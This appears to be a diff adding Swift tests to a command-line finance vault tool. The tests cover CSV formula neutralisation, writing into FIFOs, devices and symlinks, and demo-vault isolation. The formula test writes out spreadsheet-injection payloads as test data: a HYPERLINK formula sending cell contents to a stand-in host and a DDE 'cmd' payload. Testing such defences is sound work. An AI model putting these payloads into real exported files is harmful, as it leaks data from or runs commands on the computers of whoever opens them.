@@ -77,6 +77,87 @@ import Testing
         }
     }
 
+    /// F4: cells a spreadsheet would run as formulas are written as text ('=…), plain negative
+    /// amounts stay numbers, and importing the export back gives the original descriptions.
+    @Test func csvCellsNeverRunAsFormulas() throws {
+        let vault = sandbox.directory.path("formula.coffer")
+        #expect(try sandbox.run(["init", "--kdf", "interactive", "--allow-weak-passphrase", "--vault", vault.path], environment: environment).status == 0)
+        let hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
+        for note in hostile {
+            #expect(try run(["spend", "12.50", "Groceries", "--note=" + note], vault: vault).status == 0)
+        }
+        let csv = try run(["export", "csv", "--only", "transactions"], vault: vault).stdout
+        for note in hostile {
+            let cell = "'" + note
+            let quoted = "\"" + cell.replacingOccurrences(of: "\"", with: "\"\"") + "\""
+            #expect(csv.contains("," + cell + ",") || csv.contains("," + quoted + ","), "\(note) is not neutralised in:\n\(csv)")
+        }
+        #expect(csv.contains(",-12.50,"), "a negative amount stays a plain number")
+        let file = sandbox.directory.path("formula.csv")
+        try csv.write(to: file, atomically: true, encoding: .utf8)
+        let target = sandbox.directory.path("formula-target.coffer")
+        #expect(try sandbox.run(["init", "--kdf", "interactive", "--allow-weak-passphrase", "--vault", target.path], environment: environment).status == 0)
+        #expect(try run(["import", "csv", file.path, "--into", "transactions"], vault: target).status == 0)
+        let notes = try run(["transaction", "list", "--json"], vault: target).stdout
+        for note in hostile {
+            let encoded = String(decoding: try JSONEncoder().encode(note), as: UTF8.self)
+            #expect(notes.contains(encoded.replacingOccurrences(of: "\\/", with: "/")), "\(note) did not round-trip: \(notes)")
+        }
+    }
+
+    /// F9 (outputs): --out writes into a FIFO or a device instead of replacing it, follows a
+    /// symbolic link to the file it names (the link stays), and - is standard output.
+    @Test func outputsNeverReplaceWhatIsNotARegularFile() throws {
+        let vault = sandbox.directory.path("out.coffer")
+        #expect(try run(["demo"], vault: vault).status == 0)
+        let expected = try run(["export", "json"], vault: vault).stdout
+        #expect(try run(["export", "json", "--out", "-"], vault: vault).stdout == expected)
+
+        let fifo = sandbox.directory.path("export.fifo")
+        #expect(mkfifo(fifo.path, 0o600) == 0)
+        final class Received: @unchecked Sendable { var data = Data() }
+        let received = Received()
+        let done = DispatchSemaphore(value: 0)
+        let thread = Thread {
+            received.data = FileHandle(forReadingAtPath: fifo.path)?.readDataToEndOfFile() ?? Data()
+            done.signal()
+        }
+        thread.start()
+        let toFIFO = try run(["export", "json", "--out", fifo.path], vault: vault)
+        #expect(toFIFO.status == 0, "\(toFIFO.stderr)")
+        #expect(done.wait(timeout: .now() + 30) == .success)
+        #expect(String(decoding: received.data, as: UTF8.self) == expected)
+        var status = stat()
+        #expect(lstat(fifo.path, &status) == 0 && status.st_mode & S_IFMT == S_IFIFO, "the FIFO is still a FIFO")
+
+        let target = sandbox.directory.path("real-export.json"), link = sandbox.directory.path("link.json")
+        try "old".write(to: target, atomically: true, encoding: .utf8)
+        try FileManager.default.createSymbolicLink(at: link, withDestinationURL: target)
+        #expect(try run(["export", "json", "--out", link.path], vault: vault).status == 0)
+        #expect(lstat(link.path, &status) == 0 && status.st_mode & S_IFMT == S_IFLNK, "the link is still a link")
+        #expect(try String(contentsOf: target, encoding: .utf8) == expected)
+        #expect(fileMode(target) == 0o600)
+
+        // As root, a character device like /dev/null (major 1, minor 3) made in the sandbox.
+        let device = sandbox.directory.path("null-device")
+        if mknod(device.path, S_IFCHR | 0o666, dev_t((1 << 8) | 3)) == 0 {
+            #expect(try run(["export", "json", "--out", device.path], vault: vault).status == 0)
+            #expect(stat(device.path, &status) == 0 && status.st_mode & S_IFMT == S_IFCHR, "the device is still a device")
+            #expect(status.st_size == 0)
+        }
+    }
+
+    /// F17: `coffer demo` without --vault writes demo.coffer beside the default vault, never the
+    /// default vault itself.
+    @Test func theDemoNeverTouchesTheDefaultVault() throws {
+        let result = try sandbox.run(["demo"], environment: [:])
+        #expect(result.status == 0, "\(result.stderr)")
+        #expect(!FileManager.default.fileExists(atPath: sandbox.vault.path), "the default vault was created")
+        #expect(FileManager.default.fileExists(atPath: sandbox.vault.deletingLastPathComponent().appendingPathComponent("demo.coffer").path))
+        #expect(result.stdout.contains("was not touched"))
+        #expect(try sandbox.run(["account", "list"], environment: ["COFFER_PASSPHRASE": "demo"]).status == 66, "no default vault exists")
+    }
+
     @Test func onlyOneSectionAndRefusals() throws {
         let source = sandbox.directory.path("source.coffer")
         #expect(try run(["demo"], vault: source).status == 0)
